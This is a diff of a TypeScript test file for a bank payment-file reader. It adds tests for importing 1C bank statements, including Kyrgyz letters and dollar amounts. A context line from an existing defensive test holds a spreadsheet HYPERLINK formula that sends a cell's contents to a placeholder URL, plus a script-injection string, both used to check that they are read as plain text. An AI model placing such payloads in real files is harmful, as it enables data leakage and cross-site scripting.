@@ -1,5 +1,9 @@
-import { readFileSync } from 'node:fs'
+import { readdirSync, readFileSync } from 'node:fs'
+import { wordsIn } from '@tartip/domain/bank-text'
+import { bishkekDate } from '@tartip/domain/time/instant'
 import { expect, test } from 'vitest'
+import { oneCStatement } from '../statements/one-c-statement.ts'
+import { operationsOf, statementOf } from '../statements/testing/statement-fixture.ts'
 import type { PaymentFile } from './payment-file.ts'
 import { readPaymentFile } from './read-payment-file.ts'
 
@@ -134,4 +138,51 @@ test('markup and formulas are texts', async () => {
     recipientName: '=HYPERLINK("http://example.test/?"&A1;"Счет")',
     purpose: '"><script>1</script>',
   })
+})
+
+test('a statement of the bank is imported without a loss, also with Kyrgyz letters and in dollars', async () => {
+  const statement = statementOf(operationsOf(8))
+  const chunks: Uint8Array[] = []
+  for await (const chunk of oneCStatement(statement, '1.03')) chunks.push(chunk)
+  const file = await readPaymentFile(new Uint8Array(Buffer.concat(chunks)))
+  if (!file.ok) throw new Error(file.error.code)
+  const { rows, complaints, warnings, totals, encoding } = file.value
+  expect(encoding).toBe('UTF-8')
+  // What goes abroad needs Latin letters; nothing else is objected to.
+  expect(codesOf(complaints).filter(code => code !== 'CELL_NOT_LATIN')).toEqual([])
+  expect(codesOf(warnings).filter(code => code !== 'CELL_LIKELY_DUPLICATE')).toEqual([])
+  const { head, sections, operations } = statement
+  expect(totals).toEqual(
+    sections.map(({ currency, debitMinor, creditMinor }, index) => ({
+      currency,
+      count: operations[index]?.length,
+      amountMinor: debitMinor + creditMinor,
+    })),
+  )
+  expect(rows).toMatchObject(
+    sections.flatMap(({ account, currency }, index) =>
+      (operations[index] ?? []).map(one => {
+        const isDebit = one.direction === 'DEBIT'
+        return {
+          currency,
+          amountMinor: one.amountMinor,
+          fields: {
+            transferNum: one.documentNumber,
+            valueDate: bishkekDate(one.bookedAt),
+            payerAccount: isDebit ? account : one.counterpartyAccount,
+            recipientAccount: isDebit ? one.counterpartyAccount : account,
+            recipientName: isDebit ? one.counterpartyName : head.clientName,
+            recipientBic: isDebit ? one.counterpartyBank : head.bankBic,
+            purpose: wordsIn(one.purpose, 'ru').replaceAll(/[\r\n]+/g, ' '),
+          },
+        }
+      }),
+    ),
+  )
+})
+
+test('every file of the folder is a case of these tests', () => {
+  const tests = readFileSync(new URL(import.meta.url), 'utf8')
+  const files = readdirSync(new URL('../../cases/1c', import.meta.url))
+  expect(files.filter(name => !tests.includes(name))).toEqual([])
 })
